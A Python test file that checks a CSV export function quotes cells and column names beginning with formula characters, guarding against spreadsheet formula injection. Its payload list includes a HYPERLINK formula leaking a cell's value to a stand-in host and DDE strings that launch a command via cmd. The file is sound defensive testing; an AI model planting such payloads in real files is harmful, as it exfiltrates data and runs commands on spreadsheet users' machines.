"""CSV files people open: no cell from the data runs as a spreadsheet formula (issue 13 item 11)."""
from __future__ import annotations

import csv

import pandas as pd

from userops import artifacts

PAYLOADS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _cells(path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_text_cells_that_start_a_formula_are_quoted(tmp_path):
    frame = pd.DataFrame({"customer_id": PAYLOADS + ["1188", "a=b"],
                          "segment": pd.Categorical(["=1+1"] * 7 + ["ok"])})
    path = artifacts.write_csv(frame, out_dir=tmp_path, name="x")
    rows = _cells(path)
    assert rows[0] == ["customer_id", "segment"]
    assert [r[0] for r in rows[1:]] == ["'" + p for p in PAYLOADS] + ["1188", "a=b"]
    assert {r[1] for r in rows[1:]} == {"'=1+1", "ok"}
    assert frame["customer_id"].tolist()[0] == PAYLOADS[0]  # the caller's frame is not changed


def test_numbers_and_missing_values_are_written_as_they_are(tmp_path):
    frame = pd.DataFrame({"monetary": [-12.5, 3.0, None], "frequency": [-1, 2, 3],
                          "note": ["-12", None, "x"]})
    rows = _cells(artifacts.write_csv(frame, out_dir=tmp_path, name="n"))
    assert [r[0] for r in rows[1:]] == ["-12.5", "3.0", ""]
    assert [r[1] for r in rows[1:]] == ["-1", "2", "3"]
    assert [r[2] for r in rows[1:]] == ["'-12", "", "x"]  # text that looks like a formula


def test_a_column_name_from_the_data_is_quoted_too(tmp_path):
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": ["v"]})
    assert _cells(artifacts.write_csv(frame, out_dir=tmp_path, name="h"))[0] == ["'=cmd|' /C calc'!A0"]
